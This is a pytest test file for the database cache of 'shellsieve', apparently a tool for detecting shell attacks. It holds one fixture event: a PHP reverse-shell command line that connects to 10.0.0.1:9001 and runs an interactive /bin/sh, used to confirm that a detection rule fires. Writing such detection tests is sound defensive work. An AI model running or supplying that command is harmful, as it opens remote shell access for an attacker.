"""The on-disk database cache: reused when nothing changed, rebuilt when stale or corrupt, never trusted."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import PATTERNS, PHP_FSOCKOPEN, rule_ids, run_events
from shellsieve.cli import build
from shellsieve.compile.cache import DatabaseCache, cache_key
from shellsieve.compile.ruleset import compile_rules
from shellsieve.model.fields import FIELD_MAPS
from shellsieve.rules.discover import load_rules, rule_files

PHP = {"process": {"command_line": "php -r '$s=fsockopen(\"10.0.0.1\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"}}


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    d = tmp_path / "rules"
    shutil.copytree(PATTERNS, d, ignore=shutil.ignore_patterns("__init__.py", "__pycache__"))
    return d


def _fires(ruleset: object) -> bool:
    return rule_ids(run_events(ruleset, [PHP])[0]) == [PHP_FSOCKOPEN]  # type: ignore[arg-type]


def test_cold_then_warm(rules_dir: Path, tmp_path: Path) -> None:
    """The second build loads the database the first one wrote, and it matches the same events."""
    cache = tmp_path / "cache"
    _, cold, _ = build([rules_dir], cache)
    _, warm, _ = build([rules_dir], cache)
    assert (cold.cache_status, warm.cache_status) == ("cold", "warm")
    assert len(list(cache.glob("*.hsdb"))) == 1
    assert cold.pattern_count == warm.pattern_count and _fires(warm)


def test_changed_rule_file_is_a_new_key(rules_dir: Path, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    build([rules_dir], cache)
    f = next(rules_dir.rglob("*.xml"))
    f.write_text(f.read_text().replace("fsockopen", "fsockopen_x"))
    _, again, _ = build([rules_dir], cache)
    assert again.cache_status == "cold" and len(list(cache.glob("*.hsdb"))) == 2


@pytest.mark.parametrize("damage", ["garbage", "truncate", "flip_database_byte"])
def test_corrupt_cache_is_rebuilt(rules_dir: Path, tmp_path: Path, damage: str) -> None:
    """Hyperscan loads a damaged database and fails only when scanning: the checksum catches it first."""
    cache = tmp_path / "cache"
    build([rules_dir], cache)
    (entry,) = cache.glob("*.hsdb")
    data = bytearray(entry.read_bytes())
    if damage == "garbage":
        data = bytearray(b"not a cache")
    elif damage == "truncate":
        data = data[: len(data) // 2]
    else:
        data[len(data) // 2] ^= 0xFF  # inside the serialized database, the bulk of the file
    entry.write_bytes(bytes(data))
    _, rebuilt, _ = build([rules_dir], cache)
    assert rebuilt.cache_status == "corrupt" and _fires(rebuilt)
    _, warm, _ = build([rules_dir], cache)
    assert warm.cache_status == "warm" and _fires(warm)


def test_stale_entry_is_not_used(rules_dir: Path, tmp_path: Path) -> None:
    """An entry built from other patterns under the same key (e.g. a code change) is rebuilt."""
    key = cache_key(rule_files([rules_dir]), FIELD_MAPS)
    rules, _ = load_rules([rules_dir])
    compile_rules(rules[:1], DatabaseCache(tmp_path, key))
    ruleset, _ = compile_rules(rules, cache := DatabaseCache(tmp_path, key))
    assert cache.status == "stale" and _fires(ruleset)


def test_unwritable_cache_dir_still_runs(rules_dir: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    _, ruleset, _ = build([rules_dir], blocker / "cache")
    assert ruleset.cache_status == "cold" and _fires(ruleset)


def test_check_reports_cache_status(rules_dir: Path, tmp_path: Path) -> None:
    args = [str(Path(sys.executable).parent / "shellsieve"), "check", "--format", "text", "--quiet",
            "--rules", str(rules_dir), "--cache-dir", str(tmp_path / "c")]
    first = subprocess.run(args, capture_output=True, text=True, check=True).stdout
    second = subprocess.run(args, capture_output=True, text=True, check=True).stdout
    off = subprocess.run([*args, "--no-cache"], capture_output=True, text=True, check=True).stdout
    assert "(cache: cold)" in first and "(cache: warm)" in second and "(cache: off)" in off


@pytest.mark.parametrize("writable", ["file", "directory"])
def test_an_entry_others_can_write_is_not_loaded(rules_dir: Path, tmp_path: Path, writable: str) -> None:
    """An entry holds pickled rules and serialized databases: one that another user could have
    written (group/world-writable file or directory) is never read, only rebuilt."""
    cache = tmp_path / "cache"
    build([rules_dir], cache)
    (entry,) = cache.glob("*.hsdb")
    (entry if writable == "file" else cache).chmod(0o666 if writable == "file" else 0o777)
    _, again, _ = build([rules_dir], cache)
    assert again.cache_status == "untrusted" and _fires(again)
